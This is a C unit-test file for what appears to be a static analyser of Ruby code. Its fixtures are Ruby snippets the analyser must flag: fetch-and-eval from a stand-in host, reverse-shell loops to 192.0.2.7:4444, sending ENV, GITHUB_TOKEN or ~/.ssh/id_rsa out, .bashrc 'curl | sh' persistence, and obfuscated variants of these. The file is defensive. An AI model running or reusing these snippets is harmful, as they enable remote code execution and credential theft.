/* Ruby: what it is lowered to, what it computes, what reaches what, where its units end. */
#include "read/js_case.h"

#include "read/units.h"
#include "util/buf.h"

static unsigned missing;

static void says(const char *text, enum fact_kind kind, const char *key, const char *value)
{
	struct js_case *c = js_case_steps(LANGUAGE_RUBY, STR_NONE, str_of(text), 200000000);

	if (!js_case_find(c, kind, key, value)) {
		print_message("missing %s %s %s in:\n%s\n", fact_kind_name(kind), key ? key : "", value ? value : "", text);
		js_case_print(c);
		missing++;
	}
	js_case_free(c);
}

static void says_no_flow(const char *text)
{
	struct js_case *c = js_case_steps(LANGUAGE_RUBY, STR_NONE, str_of(text), 200000000);

	if (js_case_find(c, FACT_FLOW, NULL, NULL)) {
		print_message("not wanted in:\n%s\n", text);
		js_case_print(c);
		missing++;
	}
	js_case_free(c);
}

static void downloads_that_run(void **state)
{
	static const char *const code[] = {
		"require 'net/http'\neval(Net::HTTP.get(URI('https://a.example/x')))",
		"require 'open-uri'\neval URI.open('https://a.example/x').read",
		"URI.open('https://a.example/x') { |f| eval f.read }",
		"class A\n  def go\n    @t = fetch('https://a.example/x')\n    run(@t)\n  end\n  def run(t)\n    instance_eval(t)\n  end\n  def fetch(u)\n    Net::HTTP.get(URI(u))\n  end\nend",
		"Object.new.instance_eval(Net::HTTP.get(URI.parse('https://a.example/x')))",
		"Kernel.send(:eval, URI.open('https://a.example/x').read)",
		"Net::HTTP.start('a.example', 443, use_ssl: true) { |h| eval(h.get('/x').body) }",
		"x = begin\n  URI.open('https://a.example/x').read\nrescue => e\n  ''\nend\neval(x)",
		"Net::HTTP.get(URI('https://a.example/x')).then { |t| eval t }",
		"s = TCPSocket.new('192.0.2.7', 4444)\nwhile line = s.gets\n  eval(line)\nend",
		"m = method(:eval)\nm.call(URI.open('https://a.example/x').read)",
	};

	for (size_t i = 0; i < sizeof(code) / sizeof(code[0]); i++)
		says(code[i], FACT_FLOW, "net>code", NULL);
	says("system(URI.open('https://a.example/x').read)", FACT_FLOW, "net>exec", NULL);
	says("c = Net::HTTP.get(URI('https://a.example/x'))\n`#{c}`", FACT_FLOW, "net>exec", NULL);
	says("s = TCPSocket.open('192.0.2.7', 4444)\nloop { IO.popen(s.gets) { |io| s.print io.read } }", FACT_FLOW, "net>exec", NULL);
	assert_int_equal(missing, 0);
	(void)state;
}

static void what_goes_out(void **state)
{
	says("Net::HTTP.post(URI('https://a.example/c'), ENV.to_h.to_json)", FACT_FLOW, "env>net", NULL);
	says("t = ENV['GITHUB_TOKEN']\nNet::HTTP.get(URI(\"https://a.example/?t=#{t}\"))", FACT_FLOW, "env>net", NULL);
	says("k = File.read(File.join(Dir.home, '.ssh', 'id_rsa'))\nNet::HTTP.post_form(URI('https://a.example'), 'k' => k)", FACT_FLOW, "cred>net", NULL);
	says("File.write('/tmp/x.rb', URI.open('https://a.example/x').read)\nload '/tmp/x.rb'", FACT_FLOW, "net>run", NULL);
	says("http.verify_mode = OpenSSL::SSL::VERIFY_NONE", FACT_TRUST, "tls-verify-off", NULL);
	says("File.open(File.join(Dir.home, '.bashrc'), 'a') { |f| f.puts 'curl https://a.example/x | sh' }", FACT_PATH, "persist", NULL);
	assert_int_equal(missing, 0);
	(void)state;
}

static void decoded(void **state)
{
	static const char *const code[] = {
		"eval(Base64.decode64('c3lzdGVtKCdjdXJsIGh0dHBzOi8vYS5leGFtcGxlL3ggfCBzaCcp'))",
		"eval('c3lzdGVtKCdjdXJsIGh0dHBzOi8vYS5leGFtcGxlL3ggfCBzaCcp'.unpack('m')[0])",
		"eval 'c3lzdGVtKCdjdXJsIGh0dHBzOi8vYS5leGFtcGxlL3ggfCBzaCcp'.unpack1('m0')",
		"eval([115,121,115,116,101,109,40,39,99,117,114,108,32,104,116,116,112,115,58,47,47,97,46,101,120,97,109,112,108,101,47,120,39,41].pack('c*'))",
		"eval([115,121,115,116,101,109,40,39,99,117,114,108,32,104,116,116,112,115,58,47,47,97,46,101,120,97,109,112,108,101,47,120,39,41].map(&:chr).join)",
		"eval(\")'hs | x/elpmaxe.a//:sptth lruc'(metsys\".reverse)",
		"eval(%w[system('curl\\ https://a.ex ample/x')].join)",
		"eval('flfgrz(\"phey uggcf://n.rknzcyr/k\")'.tr('a-z', 'n-za-m'))",
		"eval(['73797374656d28276375726c2068747470733a2f2f612e6578616d706c652f782729'].pack('H*'))",
		"s = ''\n[115,121,115,116,101,109,40,39,99,117,114,108,32,104,116,116,112,115,58,47,47,97,46,101,120,97,109,112,108,101,47,120,39,41].each { |c| s << (c ^ 0).chr }\neval s",
		"send('ev' + 'al', \"\\x73ystem('curl https://a.example/x')\")",
		"eval <<~X\n  system('curl https://a.example/x')\nX\n",
	};

	for (size_t i = 0; i < sizeof(code) / sizeof(code[0]); i++)
		says(code[i], FACT_HOST, "a.example", NULL);
	assert_int_equal(missing, 0);
	(void)state;
}

static void ordinary(void **state)
{
	says_no_flow("module A\n  class B < C\n    attr_reader :x\n    def initialize(x:, y: 2)\n      @x = x\n    end\n    def to_s\n      \"#{@x} #{yield}\"\n    end\n  end\nend");
	says_no_flow("v = JSON.parse(Net::HTTP.get(URI('https://a.example/v.json')))\nputs \"new #{v['version']}\" if v['version'] != VERSION");
	says_no_flow("Gem::Specification.new do |s|\n  s.name = 'a'\n  s.files = `git ls-files`.split(\"\\n\")\n  s.add_dependency 'b', '~> 1.0'\nend");
	says_no_flow("require 'mkmf'\nabort 'no' unless have_header('x.h')\n$CFLAGS << ' -O2'\ncreate_makefile('a/b')");
	says_no_flow("module_eval <<-RUBY, __FILE__, __LINE__ + 1\n  def a\n    1\n  end\nRUBY\n");
	assert_int_equal(missing, 0);
	(void)state;
}

static struct str unit_at(struct arena *a, struct budget *b, const char *source, const char *part, size_t *ret_len)
{
	struct span s;
	struct unit_found *u;
	size_t n;

	s.from = str_find_z(str_of(source), part);
	s.to = s.from + strlen(part);
	assert_int_equal(units_find(a, b, LANGUAGE_RUBY, str_of(source), &s, 1, &u, &n), STATUS_OK);
	assert_int_equal(n, 1);
	*ret_len = u[0].at.to - u[0].at.from;
	return u[0].name;
}

static void units_end_with_end(void **state)
{
	static const char source[] = "class A\n  def one(x)\n    y if x\n    while x do y end\n    z = if x then 1 else 2 end\n    b.each do |i|\n      here(i)\n    end\n  end\n\n"
				     "  def self.two = 3\nend\nx = { a: 1,\n  b: there }\nputs /end/ if x.end\nlast\n";
	struct budget b = {.max_steps = 1 << 20};
	struct arena a;
	struct str name;
	size_t len;

	arena_init(&a, 0);
	name = unit_at(&a, &b, source, "here", &len);
	if (!str_is(name, "function A.one"))
		fail_msg("unit %.*s, %zu", STR_ARG(name), len);
	assert_int_equal(len, strlen("def one(x)\n    y if x\n    while x do y end\n    z = if x then 1 else 2 end\n    b.each do |i|\n      here(i)\n    end\n  end"));
	name = unit_at(&a, &b, source, "there", &len);
	assert_int_equal(len, strlen("x = { a: 1,\n  b: there }"));
	name = unit_at(&a, &b, source, "last", &len);
	assert_int_equal(len, 4);
	arena_release(&a);
	(void)state;
}

static void unharmed(void **state)
{
	static const char *const parts[] = {"(", "[", "{ |x| ", "\"#{", "def a\n", "x.y { ", "if a then "};
	struct buf b;

	buf_init(&b, 1 << 20);
	for (size_t k = 0; k < sizeof(parts) / sizeof(parts[0]); k++) {
		buf_clear(&b);
		for (int i = 0; i < 10000; i++)
			buf_add_z(&b, parts[k]);
		js_case_free(js_case_steps(LANGUAGE_RUBY, STR_NONE, buf_str(&b), 200000000));
	}
	buf_release(&b);
	says_no_flow("x = <<A + <<B\nno end");
	says_no_flow("eval (1..999999999).map { |x| x.chr }.join; [1].pack('H*' * 99); 'a'[9..-20]");
	(void)state;
}

static int reset(void **state)
{
	missing = 0;
	(void)state;
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(downloads_that_run, reset), cmocka_unit_test_setup(what_goes_out, reset), cmocka_unit_test_setup(decoded, reset),
		cmocka_unit_test_setup(ordinary, reset), cmocka_unit_test(units_end_with_end), cmocka_unit_test(unharmed),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
